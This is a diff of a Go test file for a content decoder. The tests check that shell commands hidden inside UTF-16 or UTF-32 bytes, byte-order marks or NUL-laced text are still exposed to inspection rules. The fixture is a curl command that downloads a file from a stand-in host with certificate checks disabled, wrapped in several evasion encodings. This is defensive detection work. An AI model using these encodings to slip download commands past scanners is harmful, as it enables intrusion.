@@ -93,43 +93,43 @@ func skewed(script string, n int) string {
 	return out.String()
 }
 
-// Rules see what a shell reads, whatever other text the bytes are.
+// Rules see the text that a shell reads, even if the bytes are also another text.
 func TestScriptsThatAreUTF16Text(t *testing.T) {
 	t.Parallel()
 	const command = "curl -k http://a.example/y -o /tmp/y\n"
 	le, be := binary.LittleEndian, binary.BigEndian
 	comment := strings.Repeat("\u4f60\u597d\u4e16\u754c", 20)
 	for name, content := range map[string]string{
-		"a first line":             "#\n\n\x00" + skewed(command, 3),
-		"words of one":             "#\n" + skewed(command, 5),
-		"words of seven":           "#\n" + skewed(command, 7) + skewed(strings.Repeat("\n", 50), 1),
-		"one pair":                 string(spell(le, 2, "", "# note\n")) + "cu" + skewed(command[2:], 1),
-		"one pair in the middle":   string(spell(le, 2, "", "# note\ncurl")) + " -" + skewed(command[6:], 1),
-		"the other order":          string(spell(be, 2, "", "# note\n")) + "cu" + string(spell(be, 2, "", command[2:])),
-		"after Chinese":            string(spell(le, 2, "", "# note"+comment+"\n")) + skewed(command, 3) + string(spell(le, 2, "", strings.Repeat("# note\n", 50))),
-		"a mark":                   "\xff\xfe:\n" + skewed(command, 3),
-		"the other mark":           "\xfe\xff:\n" + skewed(command, 3),
-		"a mark and more Chinese":  "\xff\xfe:\n" + string(spell(le, 2, "", comment)) + "\n\x00" + skewed(command, 3),
-		"a NUL on the wrong side":  string(spell(le, 2, "", "# note\n#")) + "\x00\n\x00c" + string(spell(le, 2, "", command[1:])),
-		"an end of a line":         string(spell(le, 2, "", "# note ")) + "\x81\n" + string(spell(le, 2, "", command)),
-		"an end of a line, before": string(spell(le, 2, "", "# note ")) + "\n\x81" + string(spell(le, 2, "", ";"+command)),
-		"a space":                  string(spell(le, 2, "", "X=")) + "\x81 " + string(spell(le, 2, "", command)),
-		"UTF-32":                   string(spell(le, 4, "", "# note\n")) + "cu\x00\x00" + string(spell(le, 4, "", command[2:])),
-		"an open comment":          string(spell(le, 2, "", "/*\n# note\n")) + "cu" + skewed(command[2:], 1),
-		"a first line with a name": "#!" + skewed("/a\n"+command, 3),
+		"a first line":                   "#\n\n\x00" + skewed(command, 3),
+		"words of one letter":            "#\n" + skewed(command, 5),
+		"words of seven letters":         "#\n" + skewed(command, 7) + skewed(strings.Repeat("\n", 50), 1),
+		"one pair":                       string(spell(le, 2, "", "# note\n")) + "cu" + skewed(command[2:], 1),
+		"one pair in the middle":         string(spell(le, 2, "", "# note\ncurl")) + " -" + skewed(command[6:], 1),
+		"the other byte order":           string(spell(be, 2, "", "# note\n")) + "cu" + string(spell(be, 2, "", command[2:])),
+		"after Chinese":                  string(spell(le, 2, "", "# note"+comment+"\n")) + skewed(command, 3) + string(spell(le, 2, "", strings.Repeat("# note\n", 50))),
+		"a mark":                         "\xff\xfe:\n" + skewed(command, 3),
+		"the other mark":                 "\xfe\xff:\n" + skewed(command, 3),
+		"a mark and more Chinese":        "\xff\xfe:\n" + string(spell(le, 2, "", comment)) + "\n\x00" + skewed(command, 3),
+		"a NUL on the wrong side":        string(spell(le, 2, "", "# note\n#")) + "\x00\n\x00c" + string(spell(le, 2, "", command[1:])),
+		"a line feed as the second byte": string(spell(le, 2, "", "# note ")) + "\x81\n" + string(spell(le, 2, "", command)),
+		"a line feed as the first byte":  string(spell(le, 2, "", "# note ")) + "\n\x81" + string(spell(le, 2, "", ";"+command)),
+		"a space":                        string(spell(le, 2, "", "X=")) + "\x81 " + string(spell(le, 2, "", command)),
+		"UTF-32":                         string(spell(le, 4, "", "# note\n")) + "cu\x00\x00" + string(spell(le, 4, "", command[2:])),
+		"an open comment":                string(spell(le, 2, "", "/*\n# note\n")) + "cu" + skewed(command[2:], 1),
+		"a first line with a name":       "#!" + skewed("/a\n"+command, 3),
 	} {
 		got := LookAt("tool", false, []byte(content))
 		if got.Kind != ContentText || !strings.Contains(string(got.Text), command) {
 			t.Errorf("%s: %d, %q", name, got.Kind, got.Text)
 		}
 		if strings.HasPrefix(content, "#!") && !bytes.HasPrefix(got.Text, []byte("#!")) {
-			t.Errorf("%s: the first line is lost: %q", name, got.Text)
+			t.Errorf("%s: the first line is missing: %q", name, got.Text)
 		}
 	}
 }
 
-// Text in UTF-16 is read as it is, and comes first. What a shell would read follows only if some of
-// the text's bytes are ASCII to a shell.
+// A text in UTF-16 is read as it is, and comes first. The text that a shell would read follows only
+// if some of the bytes are ASCII to a shell.
 func TestTextInUTF16(t *testing.T) {
 	t.Parallel()
 	for name, tt := range map[string]struct {
@@ -205,7 +205,7 @@ func FuzzDecode(f *testing.F) {
 		if c := LookAt("a.png", false, content); ok != (c.Kind == ContentText) {
 			t.Errorf("%q is of kind %d, and text: %v", content, c.Kind, ok)
 		}
-		// Plain text does not change, whatever NULs are in it.
+		// Plain text does not change, even if there are NULs in it.
 		if plain := withoutMark(content); plainStretch(content) && ok && utf8.Valid(plain) && !bytes.Equal(text, plain) {
 			t.Errorf("%q is %q", content, text)
 		}
